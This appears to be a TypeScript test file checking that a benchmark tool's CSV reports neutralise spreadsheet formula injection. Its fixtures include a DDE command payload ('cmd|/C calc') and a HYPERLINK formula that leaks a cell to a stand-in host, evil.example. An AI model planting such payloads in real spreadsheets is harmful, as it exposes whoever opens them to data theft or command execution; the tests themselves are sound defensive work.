// Report CSV cells are inert in a spreadsheet (OWASP "CSV Injection"): text from run files starting
// with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading single quote; it was written as
// is, so `=HYPERLINK(...)` in a model name ran on opening (issue 29). Numbers, negative ones
// included, and every ordinary cell keep their bytes; upstream's BabyAI rows (csvLine) are not escaped.
import { strict as assert } from 'node:assert';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { csvLine, spreadsheetLine, spreadsheetText } from '../../../src/core/util/csv';
import { runWaypoint } from '../../support/cli';
import { samplesDir } from '../../support/paths';

describe('CSV cells against formula injection', function () {
  it('prefixes formula-like text with a single quote', function () {
    for (const cell of ['=1+1', '+cmd', '-2+3+cmd|/C calc!A0', '@SUM(A1)', '\tx', '\rx', '=', '-', '-x'])
      assert.equal(spreadsheetText(cell), `'${cell}`, JSON.stringify(cell));
  });

  it('leaves numbers and ordinary text alone', function () {
    for (const cell of ['-0.5', '+3', '-1e-7', '0.75', '12', '.5', '', 'gpt-4o', 'a=b', 'zork1', "'quoted"])
      assert.equal(spreadsheetText(cell), cell, JSON.stringify(cell));
  });

  it('escapes, then quotes as RFC 4180 asks', function () {
    assert.equal(spreadsheetLine(['=A1,B1', '@x', 'ok', '-0.25']), `"'=A1,B1",'@x,ok,-0.25`);
    assert.equal(spreadsheetLine(['\rx']), `"'\rx"`);
    // Upstream's rows keep their bytes.
    assert.equal(csvLine(['=A1', '@x']), '=A1,@x');
  });
});

describe('waypoint report --csv with hostile names (CLI)', function () {
  this.timeout(60_000);
  let dir: string;
  before(function () {
    dir = mkdtempSync(join(tmpdir(), 'waypoint-csv-'));
  });
  after(function () {
    rmSync(dir, { recursive: true, force: true });
  });

  it('escapes a model named as a formula and keeps the numbers', async function () {
    const run = join(dir, 'run.jsonl');
    const made = await runWaypoint(
      [
        'run',
        'mango',
        join(samplesDir, 'mango', 'lighthouse'),
        '--agent',
        'oracle',
        '--task',
        'df',
        '--limit',
        '2',
        '--out',
        run,
      ],
      dir,
    );
    assert.equal(made.code, 0, made.stderr);
    const plain = await runWaypoint(['report', run, '--csv'], dir);
    assert.equal(plain.code, 0, plain.stderr);
    const hostile = join(dir, 'hostile.jsonl');
    const model = '=HYPERLINK("http://evil.example/?"&A1,"open")';
    writeFileSync(
      hostile,
      readFileSync(run, 'utf8')
        .trimEnd()
        .split('\n')
        .map((line) => {
          const record = JSON.parse(line);
          record.model.id = model;
          return JSON.stringify(record);
        })
        .join('\n') + '\n',
    );
    const result = await runWaypoint(['report', hostile, '--csv'], dir);
    assert.equal(result.code, 0, result.stderr);
    const [header, row] = result.stdout.split('\n');
    assert.equal(header, plain.stdout.split('\n')[0]);
    assert.ok(row.startsWith(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",`), row);
    // Everything after the model cell is byte for byte the report of the same records.
    assert.equal(row.slice(row.indexOf('",') + 2), plain.stdout.split('\n')[1].slice('oracle,'.length));
  });
});
